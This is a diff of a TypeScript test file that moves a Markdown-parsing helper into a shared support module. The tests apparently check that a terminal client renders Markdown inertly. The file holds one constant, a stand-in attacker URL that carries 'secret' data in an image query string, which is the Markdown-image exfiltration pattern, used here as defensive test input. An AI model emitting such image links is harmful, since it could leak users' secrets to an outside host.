@@ -7,25 +7,12 @@
  * add a line of its own.
  */
 import { strict as assert } from 'node:assert';
-import MarkdownIt from 'markdown-it';
+import { rendered } from '../support/renderedMarkdown';
 import { LineWriter, TurnPrinter, createStyle } from '../../client/src/terminal/render';
 import { codeSpan, inlineMarkdown, markdownBlock } from '../../shared/inertMarkdown';
 import { inertLine } from '../../shared/printablePath';
 import { Lab, runTurn } from './lab';
 
-/** What a renderer that allows HTML makes of a Markdown file: its own headings, raw HTML, images, code blocks and code spans. */
-function rendered(markdown: string): { headings: string[]; html: string[]; images: string[]; fences: string[]; spans: string[] } {
-  const tokens = new MarkdownIt({ html: true }).parse(markdown, {});
-  const inline = tokens.flatMap((token) => token.children ?? []);
-  return {
-    // Headings of the file itself: one inside a quote reads as quoted text, not as a heading of ours.
-    headings: tokens.flatMap((token, i) => (token.type === 'heading_open' && token.level === 0 ? [`${token.markup} ${tokens[i + 1].content}`] : [])),
-    html: [...tokens, ...inline].filter((token) => token.type === 'html_block' || token.type === 'html_inline').map((token) => token.content),
-    images: inline.filter((token) => token.type === 'image').map((token) => token.attrGet('src') ?? ''),
-    fences: tokens.filter((token) => token.type === 'fence').map((token) => token.content),
-    spans: inline.filter((token) => token.type === 'code_inline').map((token) => token.content),
-  };
-}
 
 const REMOTE = 'https://attacker.example/t.png?d=secret';
 
